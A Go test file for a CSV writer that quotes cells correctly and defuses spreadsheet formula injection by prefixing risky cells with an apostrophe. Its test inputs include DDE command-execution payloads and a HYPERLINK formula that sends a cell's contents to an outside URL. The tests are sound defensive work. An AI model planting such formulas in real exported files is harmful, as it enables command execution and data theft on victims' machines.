package sheet

import (
	"bytes"
	"encoding/csv"
	"errors"
	"testing"

	"github.com/stretchr/testify/require"
)

func written(t *testing.T, rows ...[]string) string {
	t.Helper()
	var out bytes.Buffer
	w := New(&out)
	for _, row := range rows {
		require.NoError(t, w.Row(row...))
	}
	require.NoError(t, w.Flush())
	return out.String()
}

func TestRowsFollowTheStandard(t *testing.T) {
	t.Parallel()
	require.Equal(t, "a,b\r\n1,2\r\n", written(t, []string{"a", "b"}, []string{"1", "2"}), "lines end with CR LF")
	require.Equal(t, "\"a,b\",\"say \"\"no\"\"\",\" space\",,\"two\r\nlines\",汇率 €\r\n", written(t, []string{"a,b", `say "no"`, " space", "", "two\nlines", "汇率 €"}))
}

func TestCellsThatSpreadsheetsCouldRun(t *testing.T) {
	t.Parallel()
	for _, cell := range []string{
		"=1+1", "=", "=cmd|' /C calc'!A0", `=HYPERLINK("https://example.com?"&A1,"x")`, "@SUM(1)", "+1", "+cmd|' /C notepad'!'A1'", "-1+2", "-", "--1", "-1e5", "-.5", "-5.",
		"- 5", "-5 ", "-5\n=1+1", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠x", "=1,\"2\"",
	} {
		text := written(t, []string{"id", cell})
		rows, err := csv.NewReader(bytes.NewReader([]byte(text))).ReadAll()
		require.NoError(t, err)
		require.Equal(t, byte('\''), rows[0][1][0], "%q becomes text", cell)
	}
	for _, cell := range []string{"", "0", "-0", "-12.5", "-0.000001", "12.5", "9223372036854775807", "-9223372036854775808", "BTCUSD", "a=b", "1-2", "deposit:5", "'=1", "2026-11-24T15:00:00.000Z", "stop_out", " =1"} {
		rows, err := csv.NewReader(bytes.NewReader([]byte(written(t, []string{"id", cell})))).ReadAll()
		require.NoError(t, err)
		require.Equal(t, cell, rows[0][1], "it is what it was")
	}
}

type broken struct{}

func (broken) Write([]byte) (int, error) { return 0, errors.New("gone") }

func TestABrokenReaderIsTold(t *testing.T) {
	t.Parallel()
	w := New(broken{})
	require.NoError(t, w.Row("a"), "it waits in memory")
	require.EqualError(t, w.Flush(), "gone")
}
